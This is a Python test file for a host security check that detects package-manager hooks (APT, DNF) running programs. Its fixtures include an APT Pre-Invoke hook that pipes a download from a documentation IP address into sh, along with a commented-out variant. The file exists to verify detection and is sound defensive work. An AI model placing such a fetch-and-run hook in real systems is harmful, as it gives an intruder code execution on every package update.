from __future__ import annotations

from tasks.checks.host.package_hook_runs import PackageHookRuns
from tests.tasks.checks.host._facts import cannot, found, put, survey

CHECK = PackageHookRuns()


def apt(content: str, path: str = "/etc/apt/apt.conf.d/99x", *owned: str) -> list[str]:
    return [severity for severity, _ in found(CHECK, survey(files=(put("packages", path, content),), owned=owned))]


def test_a_hook_that_starts_an_intruders_program() -> None:
    assert apt('APT::Update::Pre-Invoke {"curl http://203.0.113.9 | sh";};') == ["critical"]
    assert apt('DPkg {\n Post-Invoke { "/usr/local/bin/x"; };\n};') == ["medium"]
    assert apt("", "/usr/lib/python3.9/site-packages/dnf-plugins/x.py") == ["high"]


def test_what_images_and_packages_write() -> None:
    clean = """DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/*.bin || true"; };
APT::Update::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };
Dir::Cache::pkgcache "";
"""
    assert apt(clean) == []
    assert (
        apt(
            'DPkg::Pre-Install-Pkgs {"/usr/sbin/dpkg-preconfigure --apt || true";};',
            "/etc/apt/apt.conf.d/70debconf",
            "/etc/apt/apt.conf.d/70debconf",
        )
        == []
    )
    assert apt('APT::Install-Recommends "false";\n# APT::Update::Pre-Invoke {"curl http://a | sh";};') == []


def test_nothing_there_is_nothing_found() -> None:
    assert found(CHECK, survey()) == []


def test_what_was_not_read_cannot_be_judged() -> None:
    cannot(CHECK, "owners", "files")
